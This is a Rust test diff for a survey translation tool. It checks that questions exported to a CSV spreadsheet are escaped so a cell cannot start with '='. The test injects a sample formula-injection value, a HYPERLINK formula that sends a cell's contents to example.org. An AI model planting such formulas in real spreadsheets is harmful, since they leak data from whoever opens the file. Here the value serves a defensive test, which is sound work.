@@ -502,6 +502,9 @@ fn translations_go_out_to_a_spreadsheet_and_come_back_checked() {
     let original = format!("{ROOT}/surveys/survivor-consultation.json");
     let mut definition: Value = serde_json::from_str(&std::fs::read_to_string(&original).unwrap()).unwrap();
     definition["languages"] = json!(["en", "pl"]);
+    // Text that a spreadsheet would run as a formula, as a third party's file may bring it.
+    let formula = r#"=HYPERLINK("https://example.org/help?x="&A1,"Click for help")"#;
+    definition["pages"][0]["questions"][0]["text"] = json!(formula);
     let survey = scratch("survey.json");
     std::fs::write(&survey, definition.to_string()).unwrap();
     let (code, stdout, stderr) = speaksafe(&["check", survey.to_str().unwrap()]);
@@ -520,6 +523,14 @@ fn translations_go_out_to_a_spreadsheet_and_come_back_checked() {
         ]);
         assert_eq!(code, 0);
         assert!(stdout.contains("still to translate into pl"), "{stdout}");
+        if format == "csv" {
+            let text = std::fs::read_to_string(&sheet).unwrap();
+            assert!(text.contains(&format!("\"'{}\"", formula.replace('"', "\"\""))), "{text}");
+            // No field starts with '=', quoted or not.
+            for line in text.lines() {
+                assert!(!line.starts_with(['=', '"']) && !line.contains(",=") && !line.contains(",\"="), "{line}");
+            }
+        }
         // The translator's edits: every row translated, one row's English changed meanwhile (stale),
         // one translation without its placeholder, one row for a place that is not there.
         let mut rows = speaksafe_core::translations::read(&std::fs::read(&sheet).unwrap()).unwrap();
@@ -537,7 +548,7 @@ fn translations_go_out_to_a_spreadsheet_and_come_back_checked() {
             translation: "y".into(),
         });
         let bytes = if format == "csv" {
-            speaksafe_core::translations::to_csv(&definition, "pl", &edited).unwrap().into_bytes()
+            speaksafe_core::translations::to_csv(&definition, "pl", &edited).into_bytes()
         } else {
             speaksafe_core::translations::to_xlsx(&definition, "pl", &edited).unwrap()
         };
@@ -560,6 +571,8 @@ fn translations_go_out_to_a_spreadsheet_and_come_back_checked() {
         assert_eq!(code, 0, "{stdout}");
         let translated = read(&std::fs::read_to_string(&out).unwrap()).unwrap().survey;
         assert_eq!(translated.title.get("pl", "en"), format!("PL {}", translated.title.get("en", "en")));
+        let first = &translated.pages[0].questions[0].text;
+        assert_eq!((first.get("en", "en"), first.get("pl", "en")), (formula, format!("PL {formula}").as_str()));
     }
     // A language the survey does not offer.
     let (code, _, stderr) =
